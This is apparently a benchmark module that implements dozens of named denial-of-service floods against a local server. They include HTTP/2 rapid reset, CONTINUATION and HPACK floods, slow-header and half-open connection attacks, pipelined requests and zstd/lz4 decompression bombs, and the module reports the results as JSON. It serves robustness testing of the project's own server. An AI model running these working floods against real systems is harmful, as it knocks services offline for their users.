"""What a hostile peer does to a server all the time: ``python -m benchmarks.floods NAME PORT SECONDS`` does it.

Each is a function that is given a :class:`Target` and goes on until the target's time is over. One that is cut off comes back at
once, as an attacker would. ``FLOODS`` has them by name; ``benchmarks.hostile`` runs them beside a load.
"""

from __future__ import annotations

import itertools
import json
import os
import resource
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial

import hpack

from . import bombs, raw_peer as raw

_PAUSE = 0.02
"""Seconds between being cut off and the next connection."""


@dataclass
class Target:
    """Who is attacked, for how long, and what came of it."""

    port: int
    until: float
    source: str | None = None
    sent: int = 0
    connections: int = 0
    cut_off: int = 0
    refused: int = 0
    _open: list[socket.socket] = field(default_factory=list)

    @property
    def over(self) -> bool:
        """Whether it is enough."""
        return time.monotonic() >= self.until

    def connect(self, first: bytes = b"", *, receive_buffer: int | None = None) -> socket.socket | None:
        """A connection; None if it was refused."""
        try:
            sock = raw.connect(self.port, receive_buffer=receive_buffer, source=self.source, timeout=2)
            self.connections += 1
            sock.sendall(first)
        except OSError:
            self.refused += 1
            time.sleep(_PAUSE)
            return None
        self.sent += len(first)
        sock.settimeout(0)
        self._open.append(sock)
        return sock

    def many(self, number: int, first: bytes = b"", **options: int) -> list[socket.socket]:
        """Connections that stay."""
        found = (self.connect(first, **options) for _ in range(number) if not self.over)
        return [sock for sock in found if sock is not None]

    def close(self, sock: socket.socket, *, by_reset: bool = False) -> None:
        """End a connection."""
        self._open.remove(sock)
        if by_reset:
            raw.abort(sock)
        else:
            sock.close()

    def close_all(self) -> None:
        """End all connections."""
        while self._open:
            self.close(self._open[-1])

    def send(self, sock: socket.socket, body: bytes, *, drain: bool = True) -> bool:
        """Send all of it, however slowly it is taken; what comes back is thrown away, or left. Whether the peer is there."""
        view = memoryview(body)
        try:
            while view and not self.over:
                poll = select.poll()
                poll.register(sock, select.POLLOUT | (select.POLLIN if drain else 0))
                # Not select.select(), which does not take descriptors beyond 1023.
                events = dict(poll.poll(100)).get(sock.fileno(), 0)
                if events & select.POLLIN and not sock.recv(2**18):
                    raise ConnectionResetError
                if events & ~select.POLLIN:
                    taken = sock.send(view[: 2**18])
                    self.sent += taken
                    view = view[taken:]
        except BlockingIOError:
            return True
        except OSError:
            self.cut_off += 1
            self.close(sock)
            time.sleep(_PAUSE)
            return False
        return True


Attack = Callable[[Target], object]


def bursts(
    make: Callable[[int], bytes], *, first: bytes | None = None, drain: bool = True, pause: float = 0.0
) -> Attack:
    """One connection after the other, on which ``make(0)``, ``make(1)``, … are sent."""

    def attack(target: Target) -> None:
        while not target.over:
            sock = target.connect(raw.hello() if first is None else first)
            if sock is None:
                continue
            for number in itertools.count():
                if target.over or not target.send(sock, make(number), drain=drain):
                    break
                time.sleep(pause)

    return attack


def once(first: bytes, *, then: Callable[[Target, list[socket.socket]], object] | None = None, number: int) -> Attack:
    """So many connections that say something and stay; ``then`` is called again and again."""

    def attack(target: Target) -> None:
        socks = target.many(number, first)
        while not target.over:
            time.sleep(0.1)
            if then is not None:
                then(target, socks)

    return attack


def writes(messages: Callable[[int], Iterable[bytes]], *, method: str = "WriteMessages", pause: float = 0.0) -> Attack:
    """Messages on one call after the other, as flow control allows: ``messages(n)`` for the n-th call."""

    def attack(target: Target) -> None:
        for number in itertools.count():
            if target.over:
                return
            sock = target.connect(raw.hello() + raw.call(1, method))
            if sock is None:
                continue
            sock.settimeout(1)
            reading = raw.Reading(sock)
            try:
                for message in messages(number):
                    reading.send_body(1, raw.grpc(message))
                    target.sent += len(message)
                    time.sleep(pause)
                    if target.over:
                        break
            except OSError:
                target.cut_off += 1
                time.sleep(_PAUSE)
            target.close(sock)

    return attack


def _repeat(make: Callable[[], bytes]) -> Callable[[int], Iterable[bytes]]:
    return lambda _: itertools.repeat(make())


def _calls(burst: int, each: int, body: Callable[[int], bytes]) -> bytes:
    return b"".join(body(1 + 2 * (burst * each + i)) for i in range(each))


def _first_then(first: bytes, make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    return lambda number: (first if number == 0 else b"") + make(number)


# -- HTTP/2 frames --------------------------------------------------------------------------------------------------------


def _rapid_reset(number: int) -> bytes:
    return _calls(number, 200, lambda stream: raw.call(stream, "ReadMessages") + raw.reset(stream))


def _read_and_reset(number: int) -> bytes:
    def one(stream: int) -> bytes:
        return raw.call(stream, "ReadMessages") + raw.data(stream, bytes(5), end=True) + raw.reset(stream)

    return _calls(number, 90, one)


def _hpack_bomb(number: int) -> bytes:
    block = bytes(hpack.Encoder().encode([("x-" + "a" * 20, "b" * 3900)])) + b"\xbe" * 15000
    return raw.frame(raw.HEADERS, raw.END_HEADERS, 1 + 2 * number, block)


def _large_continuation(number: int) -> bytes:
    # A literal that never ends is never decoded; it only has to be kept.
    return raw.frame(raw.CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x7e" + b"b" * 16000)


def _headers(more: list[tuple[str, str]]) -> Callable[[int], bytes]:
    return lambda number: raw.call(1 + 2 * number, "ReadMessages", more)


def _readers(number: int) -> bytes:
    streams = range(1, 2 * number, 2)
    return b"".join(raw.call(s, "ReadMessages") + raw.data(s, bytes(5), end=True) for s in streams)


def _writers(number: int) -> bytes:
    return b"".join(raw.call(stream, "WriteMessages") for stream in range(1, 2 * number, 2))


def _initial_windows(number: int) -> bytes:
    return raw.settings((4, 65535 + number % 2)) * 50


def _claims(target: Target) -> None:
    claims = b"".join(
        raw.call(s, "WriteMessages") + raw.data(s, raw.grpc(b"x" * 10, size=2**31 - 1)) for s in range(1, 200, 2)
    )
    while not target.over:
        target.many(40, raw.hello() + claims)
        time.sleep(0.5)
        target.close_all()


def _claims_in_web_requests(target: Target) -> None:
    body = raw.grpc(b"", size=2**31 - 1)
    while not target.over:
        target.many(100, raw.web_request("WriteMessages", body, length=1000))
        time.sleep(0.5)
        target.close_all()


def _goaway_loop(target: Target) -> None:
    info = raw.grpc(bombs.announcement())
    first = raw.hello() + raw.call(1, "WriteMessages") + raw.data(1, info) + raw.goaway()
    # A call that ends after GOAWAY, and one that begins after it.
    rest = raw.data(1, info, end=True) + raw.call(3, "ReadMessages") + raw.data(3, bytes(5), end=True) + raw.goaway()
    while not target.over:
        sock = target.connect(first + rest)
        if sock is not None:
            time.sleep(0.002)
            target.close(sock, by_reset=target.connections % 2 == 0)


def _replays(target: Target) -> None:
    """Readers that ask for the whole history and go when it begins to come."""
    while not target.over:
        sock = target.connect(raw.hello((4, 2**31 - 1)) + raw.window_update(0, 2**30) + _readers(20))
        if sock is not None:
            time.sleep(0.02)
            target.close(sock, by_reset=True)


def _stuck_readers(target: Target) -> None:
    small = 4096
    windows = raw.hello((4, 2**31 - 1)) + raw.window_update(0, 2**30)
    socks = target.many(30, windows + _readers(1), receive_buffer=small)
    socks += target.many(30, raw.web_request("ReadMessages", bytes(5)), receive_buffer=small)
    large = [bombs.row(i, nbytes=3_000_000) for i in range(4)]
    writes(lambda _: itertools.cycle(large), pause=0.05)(target)


def _trickle(target: Target) -> None:
    """Each byte of a write in a segment of its own."""
    body = raw.hello() + raw.call(1, "WriteMessages") + raw.data(1, raw.grpc(bombs.announcement()) * 50, size=1)
    while not target.over:
        sock = target.connect()
        if sock is None:
            continue
        for at in range(len(body)):
            if target.over or not target.send(sock, body[at : at + 1]):
                break
        else:
            target.close(sock)


# -- HTTP/1.1 -------------------------------------------------------------------------------------------------------------

_GET = b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"
_PREFLIGHT = (
    b"OPTIONS /x HTTP/1.1\r\nhost: x\r\norigin: http://localhost\r\naccess-control-request-headers: %s\r\n\r\n"
    % (b"a" * 3000)
)
_REFUSED = b"POST / HTTP/1.1\r\nhost: x\r\norigin: http://hostile.example\r\ncontent-length: 0\r\n\r\n"


def _answers_to_nobody(target: Target) -> None:
    while not target.over:
        sock = target.connect(_GET * 3000)
        if sock is not None:
            target.close(sock, by_reset=True)


def _slow_heads(target: Target) -> None:
    socks = target.many(300, b"POST /x HTTP/1.1\r\n")
    for number in itertools.count():
        if target.over:
            return
        socks = [sock for sock in socks if target.send(sock, b"x-%d: a\r\n" % number)]
        socks += target.many(300 - len(socks), b"POST /x HTTP/1.1\r\n")
        time.sleep(0.5)


def _pile_up(body: bytes) -> Attack:
    first = raw.web_request(raw.REFLECTION, length=10**9)
    return bursts(lambda _: body * 1000, first=first, drain=False)


def _tiny_chunks(number: int) -> bytes:
    message = raw.grpc(bombs.announcement())
    return b"".join(b"1\r\n%c\r\n" % byte for byte in message) * 50


_CHUNKED = raw.web_request("WriteMessages", length="").replace(b"content-length: ", b"transfer-encoding: chunked")

# -- connections ----------------------------------------------------------------------------------------------------------


def _churn(target: Target) -> None:
    while not target.over:
        sock = target.connect(b"\0" * 10 if target.connections % 3 else raw.hello())
        if sock is not None:
            target.close(sock, by_reset=target.connections % 2 == 0)


def _half_open(number: int) -> Attack:
    def attack(target: Target) -> None:
        socks = {sock.fileno(): sock for sock in target.many(number)}
        while not target.over:
            poll = select.poll()
            for descriptor in socks:
                poll.register(descriptor, select.POLLIN)
            # Those that were dropped come back.
            for descriptor, _ in poll.poll(100):
                with suppress(OSError):
                    if socks[descriptor].recv(1000):
                        continue
                target.close(socks.pop(descriptor))
                target.cut_off += 1
            socks |= {sock.fileno(): sock for sock in target.many(number - len(socks))}

    return attack


_CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)


def _cut_messages(target: Target) -> None:
    half = raw.grpc(bombs.row(1, nbytes=10_000))[:5000]
    while not target.over:
        sock = target.connect(raw.hello() + raw.call(1, "WriteMessages") + raw.data(1, half))
        if sock is not None:
            target.close(sock, by_reset=True)


# -- messages -------------------------------------------------------------------------------------------------------------


def _wide(number: int) -> Iterator[bytes]:
    yield bombs.wide(700, 2 * number + 1)
    for i in range(700):
        yield bombs.supersede(i, 10**6 + 1000 * number + i)


def _by_number(make: Callable[[int], bytes]) -> Callable[[int], Iterator[bytes]]:
    return lambda call: (make(10_000 * call + i) for i in range(10_000))


_BAD_CHUNK = raw.request(raw.ARROW_MSG, raw.arrow_msg(b"x", 1))
_NO_STORE = raw.request(raw.ARROW_MSG, raw.field(1, raw.field(1, 99)) + raw.field(5, b"x"))


@dataclass(frozen=True)
class Flood:
    """An attack."""

    attack: Attack
    is_new: bool
    """Whether it goes beyond those with which the first server was tried."""
    seconds: float = 0.0
    """How long it takes at least to show what it does."""
    tls: bool = False
    """Whether the server is one with TLS."""


FLOODS: dict[str, Flood] = {
    "rapid-reset": Flood(bursts(_rapid_reset), False),
    "rapid-reset-slow": Flood(bursts(_rapid_reset, pause=0.1), False),
    "read-and-reset": Flood(bursts(_read_and_reset, pause=0.1), False),
    "continuation-empty": Flood(
        bursts(_first_then(raw.frame(raw.HEADERS, 0, 1), lambda _: raw.frame(raw.CONTINUATION, 0, 1) * 100)), False
    ),
    "continuation-large": Flood(
        bursts(_first_then(raw.frame(raw.HEADERS, 0, 1, raw.header_block("/x")), _large_continuation)), False
    ),
    "hpack-bomb": Flood(bursts(_hpack_bomb), False),
    "ping": Flood(bursts(lambda _: raw.ping() * 100), False),
    "ping-unread": Flood(bursts(lambda _: raw.ping() * 200, drain=False, pause=0.05), False),
    "settings": Flood(bursts(lambda _: raw.settings((3, 100)) * 100), False),
    "priority": Flood(
        bursts(lambda n: raw.frame(raw.PRIORITY, 0, 1 + 2 * (n % 1000), struct.pack(">IB", 0, 1)) * 100), False
    ),
    "data-empty": Flood(bursts(_first_then(_writers(1), lambda _: raw.frame(raw.DATA, 0, 1) * 1000)), False),
    "data-padded": Flood(
        bursts(_first_then(_writers(1), lambda _: raw.frame(raw.DATA, raw.PADDED, 1, b"\xff" + bytes(255)) * 200)),
        False,
    ),
    "unknown-frames": Flood(bursts(lambda _: raw.frame(0xEE, 0, 0, b"x" * 10) * 100), False),
    "header-huge": Flood(bursts(_headers([("x-a", "y" * 15000)])), False),
    "headers-many": Flood(bursts(_headers([(f"x{i}", "y") for i in range(1200)])), False),
    "window-overflow": Flood(bursts(_first_then(_readers(1), lambda _: raw.window_update(0, 2**31 - 1))), False),
    "window-overflow-stream": Flood(bursts(_first_then(_readers(1), lambda _: raw.window_update(1, 2**31 - 1))), False),
    "initial-window-overflow": Flood(bursts(_first_then(_readers(90), lambda _: raw.settings((4, 2**31 - 1)))), False),
    "settings-odd": Flood(bursts(lambda _: raw.settings((5, 16384)) + raw.settings((1, 2**32 - 1))), False),
    "half-open-500": Flood(_half_open(500), False, seconds=12),
    "half-open-1200": Flood(_half_open(1200), False, seconds=12),
    "slow-heads": Flood(_slow_heads, False, seconds=12),
    "slow-prefaces": Flood(once(raw.hello()[:20], number=200), False, seconds=12),
    "churn": Flood(_churn, False),
    "pipelined-gets": Flood(bursts(lambda _: _GET * 500, first=b"", drain=False), False),
    # New ones.
    "windows-times-readers": Flood(bursts(_first_then(_readers(100), lambda _: raw.window_update(0, 1) * 5000)), True),
    "windows-of-streams": Flood(
        bursts(_first_then(_readers(100), lambda _: b"".join(raw.window_update(s, 1) for s in range(1, 200, 2)) * 50)),
        True,
    ),
    "initial-windows": Flood(bursts(_first_then(_readers(100), _initial_windows), pause=0.02), True),
    "data-of-one-byte": Flood(bursts(_first_then(_writers(1), lambda _: raw.data(1, bytes(500), size=1))), True),
    "data-after-the-end": Flood(
        bursts(_first_then(raw.call(1, "WriteMessages", end=True), lambda _: raw.frame(raw.DATA, 0, 1, b"x") * 1000)),
        True,
    ),
    "segments-of-one-byte": Flood(_trickle, True),
    "goaway-loop": Flood(_goaway_loop, True),
    "headers-not-utf8": Flood(bursts(lambda n: raw.call(1 + 2 * n, "ReadMessages", [(b"x-a", b"\xff\xfe")])), True),
    "no-such-method": Flood(
        bursts(lambda n: _calls(n, 50, lambda stream: raw.call(stream, "/x/y", end=True)), pause=0.02), True
    ),
    "empty-messages": Flood(
        bursts(lambda n: _calls(n, 50, lambda s: raw.call(s, "WriteMessages") + raw.data(s, bytes(5), end=True))), True
    ),
    "claims": Flood(_claims, True),
    "claims-web": Flood(_claims_in_web_requests, True),
    "replays": Flood(_replays, True),
    "stuck-readers": Flood(_stuck_readers, True),
    "pipelined-preflights": Flood(bursts(lambda _: _PREFLIGHT * 80, first=b"", drain=False), True),
    "pipelined-refusals": Flood(bursts(lambda _: _REFUSED * 500, first=b"", drain=False), True),
    "answers-to-nobody": Flood(_answers_to_nobody, True),
    "reflection-pile-up": Flood(_pile_up(raw.grpc(raw.field(3, "rerun/log_msg/v1alpha1/log_msg.proto"))), True),
    "reflection-unread": Flood(
        bursts(
            _first_then(
                raw.call(1, raw.REFLECTION),
                lambda _: raw.data(1, raw.grpc(raw.field(3, "rerun/log_msg/v1alpha1/log_msg.proto")) * 30),
            ),
            drain=False,
            pause=0.01,
        ),
        True,
    ),
    "chunked-tiny": Flood(bursts(_tiny_chunks, first=_CHUNKED), True),
    "tls-half-open": Flood(once(b"", number=400), True, seconds=12, tls=True),
    "tls-hello": Flood(once(_CLIENT_HELLO, number=400), True, seconds=12, tls=True),
    "cut-messages": Flood(_cut_messages, True),
    "bad-chunks": Flood(writes(lambda _: [_BAD_CHUNK] * 1000), True),
    "bad-store-ids": Flood(writes(lambda _: [_NO_STORE] * 1000), True),
    "tables": Flood(writes(lambda n: [bombs.table(n, 100_000)], method="WriteTable"), True),
    "announcements": Flood(writes(_by_number(lambda n: bombs.announcement(f"rec{n}" + "r" * 1000))), True),
    "activations": Flood(writes(_by_number(bombs.activation)), True),
    "rows-of-many-recordings": Flood(writes(_by_number(lambda n: bombs.row(n, recording=f"rec{n}"))), True),
    "static-rows": Flood(writes(_repeat(lambda: bombs.many_rows(3_000_000))), True),
    "static-rows-shuffled": Flood(writes(_repeat(lambda: bombs.many_rows(300_000, same_ids=False))), True),
    "static-wide": Flood(writes(_wide), True),
    "static-columns": Flood(writes(_by_number(lambda n: bombs.many_columns(1000, n))), True),
    "static-entities": Flood(writes(_by_number(bombs.entity)), True),
    "static-large": Flood(writes(_by_number(lambda n: bombs.entity(n, nbytes=3_000_000))), True),
    "deep-types": Flood(writes(_repeat(lambda: bombs.deep(60))), True),
    "long-paths": Flood(writes(_by_number(lambda n: bombs.long_path(10_000_000, n)), pause=0.02), True),
    "long-components": Flood(writes(_by_number(lambda n: bombs.long_component(1_000_000, n))), True),
    "long-metadata": Flood(writes(_by_number(lambda n: bombs.long_metadata(10_000_000, n)), pause=0.02), True),
    "long-recording-ids": Flood(writes(_by_number(partial(bombs.long_id, 1_000_000))), True),
    "long-application-ids": Flood(
        writes(_by_number(partial(bombs.long_id, 1_000_000, what="application", kind="announcement"))), True
    ),
    "zstd-bombs": Flood(writes(_repeat(lambda: bombs.body("zstd", 500_000_000))), True),
    "lz4-bombs": Flood(writes(_repeat(lambda: bombs.body("block", 300_000_000))), True),
    "short-blocks": Flood(writes(_repeat(lambda: bombs.short_block(200_000))), True),
}


def main(arguments: list[str]) -> None:
    """Attack; says what came of it as JSON."""
    name, port, seconds, *more = arguments
    # A thousand connections and more.
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
    flood = FLOODS[name]
    print("ready", flush=True)
    sys.stdin.readline()
    target = Target(int(port), time.monotonic() + float(seconds), *more)
    signal.signal(signal.SIGTERM, lambda *_: setattr(target, "until", 0.0))
    flood.attack(target)
    target.close_all()
    cpu = sum(os.times()[:2])
    said = {name: getattr(target, name) for name in ("sent", "connections", "cut_off", "refused")}
    print(json.dumps({**said, "cpu": cpu}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
